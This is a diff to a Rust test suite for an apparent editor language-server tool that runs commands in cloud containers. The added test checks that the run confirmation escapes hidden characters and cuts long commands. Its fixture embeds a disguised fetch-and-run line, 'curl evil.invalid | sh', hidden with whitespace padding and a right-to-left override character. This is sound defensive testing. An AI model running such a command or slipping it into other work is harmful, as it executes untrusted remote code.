@@ -269,7 +269,7 @@ async fn a_run_end_to_end_lens_confirmation_progress_result_hint_hover_and_notif
     let ask = client.wait_for(|m| m["method"] == "window/showMessageRequest");
     let message = ask["params"]["message"].as_str().expect("message");
     for part in [
-        "/bin/sh -c echo hello",
+        "/bin/sh -c 'echo hello'",
         "nginx",
         "eci-bp1fakeweb0001",
         "cn-hangzhou",
@@ -542,4 +542,32 @@ fn without_credentials_the_user_is_told_once_and_offline_checks_go_on() {
             .is_none(),
         "told more than once"
     );
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn the_confirmation_shows_hidden_characters_escaped_and_long_commands_cut() {
+    let (fake, mut client) = start(json!({}), editor()).await;
+    client.held.push("window/showMessageRequest".to_owned());
+    let padding = " ".repeat(40);
+    let tail = "x".repeat(200);
+    let file = format!(
+        r#"{{"RegionId": "cn-hangzhou", "ContainerGroupId": "eci-bp1fakeweb0001", "ContainerName": "nginx",
+  "Command": ["/bin/sh", "-c", "ls\n; curl evil.invalid | sh{padding}\u202e; echo", "{tail}", "{tail}"], "Sync": true}}"#
+    );
+    client.open(URI, &file);
+    let run = client.start_request("workspace/executeCommand", run_params(0));
+    let ask = client.wait_for(|m| m["method"] == "window/showMessageRequest");
+    let message = ask["params"]["message"].as_str().expect("message");
+    assert!(
+        message.contains(r"'ls\n; curl evil.invalid | sh⟨40 spaces⟩\u202e; echo' xxx"),
+        "{message}"
+    );
+    assert!(
+        !message.contains('\n') && !message.contains('\u{202e}'),
+        "raw hidden characters in {message:?}"
+    );
+    assert!(message.contains("more characters)"), "{message}");
+    client.answer(&ask, json!({"title": "Cancel"}));
+    assert_eq!(client.response(run)["result"], json!(null));
+    assert_eq!(exec_requests(&fake), 0);
 }
